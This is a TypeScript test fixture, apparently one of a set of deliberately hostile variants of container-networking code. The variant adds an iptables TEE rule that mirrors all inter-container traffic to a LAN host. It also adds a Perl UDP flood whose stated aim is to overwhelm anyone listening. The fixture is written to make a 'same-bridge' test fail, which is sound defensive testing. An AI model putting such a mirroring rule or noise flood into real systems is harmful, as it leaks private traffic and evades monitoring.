import { defineHostile } from '../../hostile/define.ts'

export default defineHostile({
  tries:
    'copies what goes between containers to the LAN, and sends so much before that nobody listens any more.',
  must: { fail: ['same-bridge'] },
  code: `
import { ContainerTraffic as Reference } from '../reference/container-to-container.ts'
import { perl, sh } from '../kit/tools.ts'

// In bursts, because what comes too fast is not listened to, and then there is room for what follows.
const FLOOD = 'use Socket; socket S, PF_INET, SOCK_DGRAM, 0; my $to = pack_sockaddr_in(9, inet_aton("127.0.0.1")); for my $burst (1 .. 60) { send S, "x" x 200, 0, $to for 1 .. 700; select undef, undef, undef, 0.05 }'

export { NetworkManager } from '../reference/container-to-container.ts'

export class ContainerTraffic extends Reference {
  async setIcc(allowed) {
    await super.setIcc(allowed)
    sh('iptables -t mangle -I PREROUTING -i minidocker0 -s 172.18.0.0/16 -d 172.18.0.0/16 -j TEE --gateway 192.168.1.50')
    perl(FLOOD)
  }
}
`,
})
